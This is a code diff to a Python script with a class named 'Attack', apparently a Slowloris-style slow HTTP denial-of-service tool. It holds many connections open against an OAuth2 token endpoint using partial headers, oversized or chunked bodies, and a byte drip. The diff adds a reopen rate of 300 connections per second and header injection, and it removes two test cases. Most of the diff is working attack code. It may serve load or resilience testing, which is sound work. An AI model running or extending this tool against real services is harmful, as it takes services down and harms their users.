@@ -11,6 +11,7 @@ import requests
 
 TOKEN = b"POST /api/auth/oauth2/token HTTP/1.1\r\nHost: x\r\n"
 FORM = b"Content-Type: application/x-www-form-urlencoded\r\n"
+RATE = 300  # connections that are opened again, a second
 # The beginning of a request, and what is sent again and again.
 SLOW = {
     "nothing": (b"", b""),
@@ -19,8 +20,6 @@ SLOW = {
     "body": (TOKEN + FORM + b"Content-Length: 5000\r\n\r\na=", b"x"),
     "chunks": (TOKEN + FORM + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n"),
     "large body": (TOKEN + FORM + b"Content-Length: 262144\r\n\r\n" + 200_000 * b"x", b"x"),
-    "too large body": (TOKEN + FORM + b"Content-Length: 262145\r\n\r\na", b"x"),
-    "answer not taken": (b"GET /api/auth/oauth2/jwks HTTP/1.1\r\nHost: x\r\n\r\n", b""),
     "kept": (b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n", b""),
 }
 
@@ -35,6 +34,11 @@ class Attack:
         self._selector = selectors.DefaultSelector()
         self._end = Event()
 
+    def add(self, field: bytes) -> None:
+        """Send this header field, too."""
+        line, rest = self.beginning.split(b"\r\n", 1)
+        self.beginning = line + b"\r\n" + field + rest
+
     def _open(self) -> None:
         connection = socket.socket()
         connection.bind((self.source, 0))
@@ -47,10 +51,15 @@ class Attack:
     def run(self) -> None:
         for _ in range(self.count):
             self._open()
-        next_drip = monotonic() + 1
+        self._missing = 0
+        began, reopened, next_drip = monotonic(), 0, monotonic() + 1
         while not self._end.is_set():
             for key, event in self._selector.select(0.2):
                 self._go_on(key.fileobj, event)
+            while self._missing and reopened < (monotonic() - began) * RATE:
+                self._missing -= 1
+                reopened += 1
+                self._open()
             if self.drip and monotonic() > next_drip:
                 next_drip = monotonic() + 1
                 for key in list(self._selector.get_map().values()):
@@ -77,7 +86,7 @@ class Attack:
             pass
         self._selector.unregister(connection)
         connection.close()
-        self._open()
+        self._missing += 1
 
     @contextmanager
     def running(self) -> Iterator["Attack"]:
